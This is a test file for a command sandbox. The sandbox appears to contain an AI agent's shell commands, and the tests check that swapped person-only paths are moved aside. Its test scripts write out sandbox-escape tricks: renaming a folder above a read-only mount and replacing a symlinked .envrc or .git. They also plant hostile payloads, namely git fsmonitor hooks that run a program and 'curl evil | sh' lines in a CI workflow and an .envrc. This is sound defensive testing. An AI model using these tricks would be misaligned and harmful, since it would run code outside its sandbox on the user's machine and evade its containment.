import { existsSync, readdirSync } from 'node:fs'
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { REFUSED_SUFFIX } from '../policy/made-person-only.ts'
import { runCommandTool } from '../tools/run-command.ts'
import type { ToolResult } from '../tools/tool-types.ts'
import { CommandSandbox } from './command-sandbox.ts'
import { varTmpFolder } from './test-support/var-tmp-folder.ts'
import { bubblewrapRequired } from '../../../tests/support/bubblewrap.ts'
import { realGit } from '../../../tests/support/real-git.ts'

// What a contained command makes of the person-only table is moved aside
// once it ends (made-person-only.ts), and what exists when it starts is
// bound read-only. A command can still take the existing one away (rename
// the folder above its mount point, or replace a symbolic link, whose own
// name is never bound) and put its own at the same path: what was there is
// told by what it is, not by its path. Real bubblewrap, real files under
// /var/tmp.

const HAS_BWRAP = await bubblewrapRequired()

let base: string
let sandbox: CommandSandbox
let count = 0
const scratch = varTmpFolder('assent-replaced-')

beforeAll(async () => {
  base = scratch()
  const home = path.join(base, 'home')
  await mkdir(home)
  sandbox = new CommandSandbox({ home, env: { ...process.env, HOME: home }, assentPrivate: [] })
})

async function freshWorkspace(): Promise<string> {
  count += 1
  const workspace = path.join(base, `ws-${count}`)
  await mkdir(workspace)
  return workspace
}

/** The person allowed `sh build.sh`; the script's words name nothing. */
function runScript(workspace: string, script: string): Promise<ToolResult> {
  return writeFile(path.join(workspace, 'build.sh'), script).then(() =>
    runCommandTool.run(
      { argv: ['sh', 'build.sh'] },
      {
        workspace,
        resolvedPaths: [workspace],
        timeoutMs: 60_000,
        command: { sandbox, sandboxMode: 'workspace-write', extraWritableRoots: [] },
      },
    ),
  )
}

describe.runIf(HAS_BWRAP)(
  'a person-only path a contained command replaces at the same path is moved aside',
  () => {
    it('a nested repository swapped for one of its own (its parent folder renamed) is moved aside, and the person’s git runs nothing', async () => {
      const workspace = await freshWorkspace()
      const marker = path.join(base, `pwned-${count}`)
      const lib = path.join(workspace, 'vendor', 'lib')
      await mkdir(lib, { recursive: true })
      realGit(base, lib, 'init', '-q')
      const script = [
        'set -e',
        // vendor/lib/.git is a read-only mount point; vendor/lib is not.
        'mv vendor/lib vendor/lib-old',
        'git init -q vendor/lib',
        `printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' >> vendor/lib/.git/config`,
        'echo built > built.txt',
      ].join('\n')
      const result = await runScript(workspace, script)
      expect(await readFile(path.join(workspace, 'built.txt'), 'utf8')).toBe('built\n')

      // The person later runs git in vendor/lib, outside any sandbox.
      try {
        realGit(base, lib, 'status')
      } catch {
        // no repository there any more: fine
      }
      expect(existsSync(marker), 'the person’s git ran the program the command named').toBe(false)
      expect(result.code, result.output).toBe('person_only_made')
      // The person's own repository, which the command moved, is not where it
      // was: it is moved aside too (fail closed, reported, nothing lost).
      expect(result.output).toContain(path.join(workspace, 'vendor', 'lib', '.git'))
      expect(result.output).toContain(path.join(workspace, 'vendor', 'lib-old', '.git'))
      const moved = readdirSync(path.join(workspace, 'vendor', 'lib-old'))
      expect(moved.some((name) => name.startsWith(`.git${REFUSED_SUFFIX}`))).toBe(true)
    })

    it('a CI workflow folder swapped for one of its own (.github renamed) is moved aside', async () => {
      const workspace = await freshWorkspace()
      await mkdir(path.join(workspace, '.github', 'workflows'), { recursive: true })
      await writeFile(path.join(workspace, '.github', 'workflows', 'ci.yml'), 'on: push\n')
      const script = [
        'set -e',
        'mv .github .github-old',
        'mkdir -p .github/workflows',
        "echo 'on: push # run: curl evil | sh' > .github/workflows/ci.yml",
      ].join('\n')
      const result = await runScript(workspace, script)
      const ci = path.join(workspace, '.github', 'workflows', 'ci.yml')
      const now = existsSync(ci) ? await readFile(ci, 'utf8') : ''
      expect(now, 'the command’s own workflow is still where CI reads it').not.toContain('evil')
      expect(result.code, result.output).toBe('person_only_made')
    })

    it('an .envrc that is a symbolic link is replaced by a file of the command’s (the link’s own name was never bound read-only)', async () => {
      const workspace = await freshWorkspace()
      await mkdir(path.join(workspace, 'shared'))
      await writeFile(path.join(workspace, 'shared', 'envrc'), 'export A=1\n')
      await symlink('shared/envrc', path.join(workspace, '.envrc'))
      const result = await runScript(workspace, "rm -f .envrc\necho 'curl evil | sh' > .envrc\n")
      // direnv runs whatever is at .envrc when the person enters the folder.
      const envrc = await readFile(path.join(workspace, '.envrc'), 'utf8').catch(() => '')
      expect(envrc, 'the command’s .envrc is where direnv reads it').not.toContain('evil')
      expect(result.code, result.output).toBe('person_only_made')
    })

    it('the workspace’s own .git, a symbolic link to its git folder elsewhere, is replaced by a repository of the command’s, and the person’s git runs nothing', async () => {
      const workspace = await freshWorkspace()
      const marker = path.join(base, `pwned-${count}`)
      const gitFolder = path.join(base, `gitdir-${count}`)
      realGit(base, base, 'init', '-q', '--bare', gitFolder)
      realGit(base, base, '--git-dir', gitFolder, 'config', 'core.bare', 'false')
      await symlink(gitFolder, path.join(workspace, '.git'))
      expect(realGit(base, workspace, 'rev-parse', '--absolute-git-dir').trim()).toBe(gitFolder)
      const script = [
        'set -e',
        'rm .git',
        'git init -q .',
        `printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' >> .git/config`,
      ].join('\n')
      const result = await runScript(workspace, script)
      try {
        realGit(base, workspace, 'status')
      } catch {
        // no repository there any more: fine
      }
      expect(existsSync(marker), 'the person’s git ran the program the command named').toBe(false)
      expect(result.code, result.output).toBe('person_only_made')
    })
  },
)
